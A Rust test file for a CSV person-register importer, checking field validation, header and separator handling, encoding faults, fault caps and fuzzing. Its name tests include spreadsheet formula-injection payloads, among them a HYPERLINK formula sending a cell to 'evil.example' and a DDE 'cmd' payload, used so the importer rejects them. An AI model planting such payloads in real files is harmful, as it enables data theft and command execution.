//! Register files, good and bad.

use super::*;
use crate::header_fault::HeaderFault;
use crate::row::birth;
use crate::{BirthKnown, PersonError, sample_register, write_csv};
use nonla_credential::{ClaimError, DayError};
use proptest::prelude::*;

const HEADER: &str =
    "full_name,birth_date,id_number,phone,province,status,nationality,resident_country\n";
const AN: &str = "Nguyễn Văn An,1990-03-01,001090000001,0912345678,079,citizen,VN,VN\n";
const KIM: &str = "Kim Minji,2001-07-09,AB1234567,0312345678,079,foreign_resident,KR,VN\n";
const BINH: &str = "Trần Thị Bình,1985-02-28,001185000002,0712345678,,citizen_abroad,VN,CZ\n";

fn today() -> Day {
    Day::parse("2026-11-22").unwrap()
}

fn file(rows: &[&str]) -> Vec<u8> {
    [HEADER, &rows.concat()].concat().into_bytes()
}

fn take_all(bytes: &[u8]) -> Result<Import, ImportError> {
    import(bytes, ImportMode::AllOrNothing, today())
}

fn faults(bytes: &[u8]) -> Vec<BadRow> {
    listed(&import(bytes, ImportMode::SkipBad, today()).unwrap().skipped)
}

/// All the faults, where there are few.
fn listed(faults: &Faults) -> Vec<BadRow> {
    assert_eq!(faults.total(), faults.listed().len() as u64);
    assert_eq!(faults.by_reason().map(|(_, _, count)| count).sum::<u64>(), faults.total());
    faults.listed().to_vec()
}

/// The faults for which nothing of the file was taken.
fn refused(bytes: &[u8]) -> Vec<BadRow> {
    match take_all(bytes) {
        Err(ImportError::BadRows(faults)) => listed(&faults),
        other => panic!("{other:?}"),
    }
}

fn bad(line: u64, field: Field, reason: impl Into<BadField>) -> BadRow {
    BadRow { line, field, reason: reason.into() }
}

/// AN with one column replaced.
fn with(column: usize, value: &str) -> String {
    let mut columns: Vec<&str> = AN.trim_end().split(',').collect();
    columns[column] = value;
    columns.join(",") + "\n"
}

#[test]
fn good_rows_of_every_status_are_taken_in_order() {
    let import = take_all(&file(&[AN, KIM, BINH])).unwrap();
    let names: Vec<_> = import.people.iter().map(|p| p.full_name().as_str()).collect();
    assert_eq!(names, ["Nguyễn Văn An", "Kim Minji", "Trần Thị Bình"]);
    assert!(import.skipped.is_empty());
}

#[test]
fn each_bad_field_is_named_by_line_column_and_reason() {
    let cases = [
        (0, "", Field::FullName, BadField::Missing),
        (0, " An", Field::FullName, ClaimError::FullName.into()),
        (1, "", Field::BirthDate, BadField::Missing),
        (1, "1/3/1990", Field::BirthDate, DayError::NotIso.into()),
        (1, "1990-02-29", Field::BirthDate, DayError::NoSuchDay.into()),
        (1, "1899-12-31", Field::BirthDate, DayError::OutOfRange.into()),
        (1, "2026-11-23", Field::BirthDate, BadField::InFuture),
        (1, "1991-03-01", Field::IdNumber, PersonError::NumberDoesNotFitBirthDate.into()),
        (2, "", Field::IdNumber, BadField::Missing),
        (2, "1", Field::IdNumber, ClaimError::IdNumber.into()),
        (2, "1090000001", Field::IdNumber, PersonError::NotACitizenNumber.into()),
        (2, "000090000001", Field::IdNumber, PersonError::NumberNamesNoPlace.into()),
        (3, "", Field::Phone, BadField::Missing),
        (3, "912345678", Field::Phone, PersonError::Phone.into()),
        (4, "79", Field::Province, ClaimError::Province.into()),
        (4, "", Field::Province, PersonError::StatusAndProvince.into()),
        (5, "", Field::Status, BadField::Missing),
        (5, "Citizen", Field::Status, BadField::UnknownStatus),
        (6, "", Field::Nationality, BadField::Missing),
        (6, "Viet Nam", Field::Nationality, ClaimError::Country.into()),
        (6, "KR", Field::Nationality, PersonError::StatusAndNationality.into()),
        (7, "vn", Field::ResidentCountry, ClaimError::Country.into()),
        (7, "KR", Field::ResidentCountry, PersonError::StatusAndResidence.into()),
    ];
    for (column, value, field, reason) in cases {
        let bytes = file(&[KIM, &with(column, value), BINH]);
        assert_eq!(faults(&bytes), [bad(3, field, reason)], "{value:?}");
        assert_eq!(refused(&bytes), [bad(3, field, reason)], "{value:?}");
        let import = import(&bytes, ImportMode::SkipBad, today()).unwrap();
        assert_eq!(import.people.len(), 2, "{value:?}");
    }
}

#[test]
fn every_fault_of_a_row_is_listed() {
    let row = "An ,1990-3-1,001190000001,091,,citizen_abroad,KR,VN\n";
    let expected = [
        bad(2, Field::FullName, ClaimError::FullName),
        bad(2, Field::BirthDate, DayError::NotIso),
        bad(2, Field::Phone, PersonError::Phone),
        bad(2, Field::Nationality, PersonError::StatusAndNationality),
        bad(2, Field::ResidentCountry, PersonError::StatusAndResidence),
    ];
    assert_eq!(faults(&file(&[row])), expected);
}

#[test]
fn rows_with_one_number_all_point_at_each_other_even_when_otherwise_bad() {
    let again = with(0, "An Again");
    let broken = with(3, "1");
    let bytes = file(&[AN, KIM, &again, &broken]);
    let same = |line, other| bad(line, Field::IdNumber, BadField::SameIdNumberAs { line: other });
    let expected = [same(2, 4), same(4, 2), same(5, 2), bad(5, Field::Phone, PersonError::Phone)];
    assert_eq!(faults(&bytes), expected);
    assert_eq!(expected[1].to_string(), "line 4, id_number: same ID number as line 2");
    let import = import(&bytes, ImportMode::SkipBad, today()).unwrap();
    assert_eq!(import.people.len(), 1);
    assert_eq!(refused(&bytes), expected);
}

#[test]
fn a_row_of_another_width_is_named_with_its_width() {
    let short = "Nguyễn Văn An,1990-03-01\n";
    let long = AN.replace("VN,VN\n", "VN,VN,x\n");
    let expected = [
        bad(2, Field::Row, BadField::ColumnCount { found: 2, expected: 8 }),
        bad(3, Field::Row, BadField::ColumnCount { found: 9, expected: 8 }),
    ];
    assert_eq!(faults(&file(&[short, &long, AN])), expected);
}

#[test]
fn an_open_quote_names_every_line_it_swallows() {
    let open = with(0, "\"Nguyễn Văn An");
    let bytes = file(&[KIM, &open, BINH, AN]);
    assert_eq!(faults(&bytes), [bad(3, Field::Row, BadField::OpenQuote { last_line: 6 })]);
    let closed = with(0, "\"Nguyễn\nVăn An\"");
    let bytes = file(&[KIM, &closed, BINH, AN]);
    assert_eq!(faults(&bytes), [bad(3, Field::Row, BadField::OpenQuote { last_line: 4 })]);
}

#[test]
fn bytes_that_are_not_utf8_are_named_by_column() {
    let mut bytes = file(&[AN]);
    let at = bytes.windows(3).position(|w| w == "ễ".as_bytes()).unwrap();
    bytes[at] = 0xff;
    assert_eq!(faults(&bytes), [bad(2, Field::FullName, BadField::NotUtf8)]);
}

#[test]
fn lines_are_counted_through_empty_lines_and_every_line_end() {
    let wrong = with(3, "1");
    let plain = file(&["\n", KIM, "\n\n", &wrong]);
    let crlf = String::from_utf8(plain.clone()).unwrap().replace('\n', "\r\n");
    let cr = String::from_utf8(plain.clone()).unwrap().replace('\n', "\r");
    for bytes in [plain, crlf.into_bytes(), cr.into_bytes()] {
        assert_eq!(faults(&bytes), [bad(6, Field::Phone, PersonError::Phone)]);
    }
    let late_header = ["\n\r\n", HEADER, &wrong].concat();
    assert_eq!(faults(late_header.as_bytes()), [bad(4, Field::Phone, PersonError::Phone)]);
}

#[test]
fn quotes_and_windows_line_ends_do_not_change_a_person() {
    let plain = take_all(&file(&[AN])).unwrap();
    let quoted = format!("{HEADER}\"{}\"", AN.trim_end().replace(',', "\",\""));
    let crlf = quoted.replace('\n', "\r\n");
    assert!(take_all(quoted.as_bytes()).unwrap() == plain);
    assert!(take_all(crlf.as_bytes()).unwrap() == plain);
}

#[test]
fn byte_order_marks_are_ignored() {
    let marked = [b"\xef\xbb\xbf", &*file(&[AN])].concat();
    assert!(take_all(&marked).unwrap() == take_all(&file(&[AN])).unwrap());
    // Two look like none, so they are no reason to refuse a header.
    let twice = take_all(&[b"\xef\xbb\xbf", &*marked].concat()).unwrap();
    assert_eq!((twice.people.len(), twice.notes), (1, vec![Note::BlanksInHeader]));
}

#[test]
fn an_empty_file_is_refused_and_a_header_alone_is_nobody() {
    for bytes in [&b""[..], b"\n\r\n", b"\xef\xbb\xbf"] {
        assert_eq!(take_all(bytes), Err(ImportError::Empty), "{bytes:?}");
    }
    assert!(take_all(HEADER.as_bytes()).unwrap().people.is_empty());
}

#[test]
fn only_the_exact_header_is_accepted() {
    let spelling = |column, expected| HeaderFault::Spelling { column, expected };
    let name = |column, expected| HeaderFault::Name { column, expected };
    let wrong = [
        (AN.to_owned(), HeaderFault::NoHeader),
        (HEADER.to_uppercase(), spelling(1, Field::FullName)),
        (HEADER.replace("id_number", "ID number"), spelling(3, Field::IdNumber)),
        (HEADER.replace("id_number", "id\u{200b}_number"), spelling(3, Field::IdNumber)),
        // Cyrillic letters and a Turkish one.
        (HEADER.replace("phone", "рhоnе"), spelling(4, Field::Phone)),
        (HEADER.replace("phone,", ""), HeaderFault::Count { found: 7 }),
        (HEADER.replace("\n", ",extra\n"), name(9, Field::FormerNumbers)),
        (HEADER.replace("\n", ",former_numbers,x\n"), HeaderFault::Count { found: 10 }),
        (HEADER.replace("phone", "fax"), name(4, Field::Phone)),
        (HEADER.replace("full_name,birth_date", "birth_date,full_name"), HeaderFault::Order),
        ("full_name\n".to_owned(), HeaderFault::NoSeparator),
        (HEADER.replace(',', ":"), HeaderFault::NoSeparator),
        (HEADER.replacen(',', ";", 3), HeaderFault::Count { found: 5 }),
    ];
    for (header, fault) in wrong {
        let bytes = [&header, AN].concat();
        let error = take_all(bytes.as_bytes()).unwrap_err();
        assert_eq!(error, ImportError::WrongHeader(fault), "{header}");
        assert!(error.to_string().contains("the columns are full_name, birth_date"));
    }
    let nul = ["\0", HEADER, AN].concat();
    assert_eq!(take_all(nul.as_bytes()), Err(ImportError::NulByte { line: 1 }));
}

/// Serves T-Z1: what separates columns shows by the header, so nothing is guessed.
#[test]
fn semicolons_tabs_and_a_separator_line_are_read_and_told() {
    let plain = take_all(&file(&[AN, KIM])).unwrap().people;
    let text = String::from_utf8(file(&[AN, KIM])).unwrap();
    for separator in [';', '\t', '|'] {
        let other = text.replace(',', &separator.to_string());
        let read = take_all(other.as_bytes()).unwrap();
        assert!(read.people == plain);
        assert_eq!(read.notes, [Note::Separator(separator)]);
        for line in ["sep=", "SEP=", "\u{feff}sep=", "\"sep="] {
            let end = if line.starts_with('"') { "\"\r\n" } else { "\n" };
            let told = take_all(format!("{line}{separator}{end}{other}").as_bytes()).unwrap();
            assert!(told.people == plain);
            assert_eq!(told.notes, [Note::SeparatorLine, Note::Separator(separator)]);
            assert_eq!(told.lines, [3, 4]);
        }
    }
    // The line names another separator than the file has.
    let lying = take_all(["sep=;\n", &text].concat().as_bytes());
    assert_eq!(lying, Err(ImportError::WrongHeader(HeaderFault::NoSeparator)));
    let blanks = text.replacen("phone,", " phone\u{a0} ,", 1);
    assert_eq!(take_all(blanks.as_bytes()).unwrap().notes, [Note::BlanksInHeader]);
}

/// Serves T-Z1: rows and columns with nothing in them are no rows and columns.
#[test]
fn blank_rows_and_trailing_blank_columns_are_ignored() {
    let plain = take_all(&file(&[AN, KIM])).unwrap().people;
    let blank = [",,,,,,,\n", "\"\",\"\",,,,,,\n", " , ,\t,\u{a0},,,,\n", ",,,,,,,,,,,,\n", " \n"];
    let rows: Vec<&str> = [&blank[..], &[AN], &blank, &[KIM], &blank].concat();
    let read = take_all(&file(&rows)).unwrap();
    assert!(read.people == plain && read.notes.is_empty());
    assert_eq!(read.lines, [7, 13]);
    let wider = String::from_utf8(file(&[AN, KIM])).unwrap().replace('\n', ",, ,\n");
    assert!(take_all(wider.as_bytes()).unwrap().people == plain);
    let above = [",,,,,,,\n;;;\n\n".replace(";;;\n", "").as_str(), HEADER, AN, KIM].concat();
    assert!(take_all(above.as_bytes()).unwrap().people == plain);
}

/// Serves T-Z1: a list of faults is a page, however long the file, and all are counted.
#[test]
fn the_list_of_faults_is_capped_and_counted_by_reason() {
    let bad_row = with(3, "1");
    let rows: Vec<String> =
        (0..5_000).map(|n| bad_row.replace("001090000001", &format!("00109{n:07}"))).collect();
    let rows: Vec<&str> = rows.iter().map(String::as_str).chain(["x\n", "x,y\n"]).collect();
    for mode in [ImportMode::SkipBad, ImportMode::AllOrNothing] {
        let faults = match import(&file(&rows), mode, today()) {
            Ok(import) => import.skipped,
            Err(ImportError::BadRows(faults)) => faults,
            Err(other) => panic!("{other}"),
        };
        assert_eq!(faults.listed().len(), Faults::MOST_LISTED);
        let lines: Vec<u64> = faults.listed().iter().map(|fault| fault.line).collect();
        assert_eq!(lines, (2..52).collect::<Vec<u64>>());
        assert_eq!(faults.total(), 5_002);
        let kinds = faults.by_reason().map(|(field, first, count)| (field, first.kind(), count));
        let counts: Vec<_> = kinds.collect();
        let phone = PersonError::Phone.to_string();
        let width = "has another number of columns than the header";
        assert_eq!(counts, [(Field::Row, width.to_owned(), 2), (Field::Phone, phone, 5_000)]);
    }
    // A number that stands twice is told at its first line too, which comes before those listed.
    let again: Vec<&str> = [AN].into_iter().chain([KIM; 60]).chain([AN]).collect();
    let faults = import(&file(&again), ImportMode::SkipBad, today()).unwrap().skipped;
    assert_eq!(faults.listed()[0], bad(2, Field::IdNumber, BadField::SameIdNumberAs { line: 63 }));
    assert_eq!((faults.total(), faults.listed().len()), (62, Faults::MOST_LISTED));
}

/// Serves REQ-I2: a row may name the numbers the person had before; a number is one person's.
#[test]
fn former_numbers_are_read_and_are_nobody_elses() {
    let header = HEADER.replace('\n', ",former_numbers\n");
    let file = |rows: &[&str]| [header.as_str(), &rows.concat()].concat().into_bytes();
    let an = AN.replace('\n', ",012345678 AB7654321\n");
    let read = take_all(&file(&[&an, KIM, &BINH.replace('\n', ",\n")])).unwrap();
    let former: Vec<_> = read.people[0].former_numbers().iter().map(IdNumber::as_str).collect();
    assert_eq!(former, ["012345678", "AB7654321"]);
    assert!(read.people[1].former_numbers().is_empty());
    assert!(take_all(&write_csv(&read.people)).unwrap().people == read.people);
    let kim = KIM.replace('\n', ",012345678\n");
    let same = |line, field, other| bad(line, field, BadField::SameIdNumberAs { line: other });
    let expected = [same(2, Field::FormerNumbers, 3), same(3, Field::FormerNumbers, 2)];
    assert_eq!(refused(&file(&[&an, &kim])), expected);
    let kim = KIM.replace('\n', ",001090000001\n");
    let expected = [same(2, Field::IdNumber, 3), same(3, Field::FormerNumbers, 2)];
    assert_eq!(refused(&file(&[&an, &kim])), expected);
    let cases = [
        ("1", BadField::from(ClaimError::IdNumber)),
        ("001090000001", PersonError::FormerNumbers.into()),
        ("012345678 012345678", PersonError::FormerNumbers.into()),
        (
            "012345671 012345672 012345673 012345674 012345675 012345676 012345677 012345678 \
          012345679",
            PersonError::FormerNumbers.into(),
        ),
    ];
    for (former, reason) in cases {
        let row = AN.replace('\n', &format!(",{former}\n"));
        assert!(refused(&file(&[&row])).contains(&bad(2, Field::FormerNumbers, reason)));
    }
}

/// Serves T-Z1, T-F2: names have one spelling, and what is no name is none.
#[test]
fn names_are_normalised_and_damaged_ones_refused() {
    let name = |text: &str| {
        let row = with(0, &format!("\"{}\"", text.replace('"', "\"\"")));
        import(&file(&[&row]), ImportMode::SkipBad, today()).unwrap()
    };
    for spelled in ["Nguye\u{302}\u{303}n Va\u{306}n An", "Nguy\u{ea}\u{303}n V\u{103}n An"] {
        assert_eq!(name(spelled).people[0].full_name().as_str(), "Nguyễn Văn An");
    }
    let cases: [(&str, BadField); 14] = [
        ("=HYPERLINK(\"http://evil.example/\"&B2,\"xem\")", PersonError::NameIsFormula.into()),
        ("@SUM(1+1)", PersonError::NameIsFormula.into()),
        ("+84 Văn An", PersonError::NameIsFormula.into()),
        ("-2+3+cmd|' /C calc'!A0", PersonError::NameIsFormula.into()),
        ("An;=1+1", PersonError::NameIsFormula.into()),
        ("\u{2800}\u{2800}", ClaimError::FullName.into()),
        ("Nguyễn\u{1d173} An", ClaimError::FullName.into()),
        ("\u{301}", ClaimError::FullName.into()),
        ("\u{10fffd}n", ClaimError::FullName.into()),
        ("\u{b4}", PersonError::NameWithoutLetter.into()),
        ("123", PersonError::NameWithoutLetter.into()),
        ("Nguy?n V?n An", BadField::LostLetters),
        ("Nguy\u{fffd}n An", BadField::LostLetters),
        ("Nguyá»…n VÄƒn An", BadField::WrongEncoding),
    ];
    for (text, reason) in cases {
        let faults = listed(&name(text).skipped);
        assert_eq!(faults, [bad(2, Field::FullName, reason)], "{text}");
    }
}

/// Serves REQ-C2: where only the year is known, its last day counts.
#[test]
fn a_year_of_birth_alone_is_read_and_counts_from_its_last_day() {
    for text in ["1990", "1990-00-00"] {
        let read = take_all(&file(&[&with(1, text)])).unwrap();
        let person = &read.people[0];
        assert_eq!(person.birth_date().to_string(), "1990-12-31");
        assert_eq!(person.birth_known(), BirthKnown::Year);
        assert!(take_all(&write_csv(&read.people)).unwrap().people == read.people);
    }
    let read = take_all(&file(&[&with(1, "1990-02")])).unwrap();
    assert_eq!(read.people[0].birth_date().to_string(), "1990-02-28");
    // The year itself must fit the citizen number.
    let faults = faults(&file(&[&with(1, "1991")]));
    assert_eq!(faults, [bad(2, Field::IdNumber, PersonError::NumberDoesNotFitBirthDate)]);
}

#[test]
fn a_file_over_the_cap_is_refused_unread() {
    let zeros = vec![0; MAX_REGISTER_FILE + 1];
    assert_eq!(take_all(&zeros), Err(ImportError::TooLarge { most_bytes: MAX_REGISTER_FILE }));
}

#[test]
fn people_are_at_most_130_years_old_and_born_by_today() {
    let born = |date: &str, today: &str| birth(date, Day::parse(today).unwrap());
    assert!(born("2026-11-22", "2026-11-22").is_ok());
    assert_eq!(born("2026-11-23", "2026-11-22"), Err(BadField::InFuture));
    assert!(born("1926-01-01", "2057-01-01") == Err(BadField::TooOld));
    assert!(born("1926-01-01", "2056-12-31").is_ok());
}

/// T-C3: nothing a file says about a person is in what is said about the file.
#[test]
fn errors_never_repeat_a_value() {
    let canary = "CANARY";
    for column in 0..8 {
        let bytes = file(&[&with(column, canary), &with(column, "CANARY7CANARY7")]);
        let error = take_all(&bytes).err().unwrap();
        let rows = faults(&bytes).iter().map(ToString::to_string).collect::<String>();
        assert!(!format!("{error} {error:?} {rows}").contains(canary));
    }
    let error = take_all(canary.as_bytes()).unwrap_err();
    assert!(!format!("{error} {error:?}").contains(canary));
}

proptest! {
    /// T-Z1
    #[test]
    fn random_bytes_never_panic(bytes: Vec<u8>, with_header: bool) {
        let bytes = if with_header { [HEADER.as_bytes(), &bytes].concat() } else { bytes };
        let _ = take_all(&bytes);
        let _ = import(&bytes, ImportMode::SkipBad, today());
    }

    /// T-Z1: a changed file gives only people who survive being written and read again.
    #[test]
    fn mutated_files_give_people_or_faults(
        edits in prop::collection::vec((any::<prop::sample::Index>(), mutation()), 1..12)
    ) {
        let mut bytes = write_csv(&sample_register(20, today(), 3));
        for (at, byte) in edits {
            let at = at.index(bytes.len());
            match byte {
                Some(byte) => bytes[at] = byte,
                None => { bytes.remove(at); }
            }
        }
        let Ok(read) = import(&bytes, ImportMode::SkipBad, today()) else { return Ok(()) };
        prop_assert_eq!(take_all(&bytes).is_ok(), read.skipped.is_empty());
        prop_assert!(read.skipped.listed().is_sorted_by_key(|row| row.line));
        let again = take_all(&write_csv(&read.people)).unwrap();
        prop_assert!(again.people == read.people);
    }
}

fn mutation() -> impl Strategy<Value = Option<u8>> {
    prop_oneof![
        Just(None),
        any::<u8>().prop_map(Some),
        prop::sample::select(&b",\"\r\n0129VN\xef"[..]).prop_map(Some),
    ]
}
